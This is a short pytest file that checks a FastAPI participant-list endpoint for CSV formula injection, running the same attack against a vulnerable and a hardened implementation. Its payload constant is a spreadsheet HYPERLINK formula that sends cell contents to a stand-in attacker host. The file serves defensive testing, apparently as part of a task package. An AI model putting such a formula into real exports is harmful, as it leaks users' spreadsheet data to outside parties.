import csv
import io

from fastapi.testclient import TestClient

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"


def formulas(text):
    """Cells that a spreadsheet takes for formulas."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in tuple("=+-@\t\r")]


def download(module, *people):
    return TestClient(module.app).post("/lists", json={"participants": people}).text


def attack(module, tmp_path) -> bool:
    return bool(formulas(download(module, {"name": FORMULA, "meal": "fish"})))


def test_honest_input(program, tmp_path):
    text = download(program, {"name": "Ann, Lee", "meal": "fish"}, {"name": "Bob"})
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "meal"], ["Ann, Lee", "fish"], ["Bob", "any"]]


def test_attack_succeeds_on_vulnerable(vulnerable, tmp_path):
    assert attack(vulnerable, tmp_path)


def test_attack_fails_on_hardened(hardened, tmp_path):
    assert not attack(hardened, tmp_path)
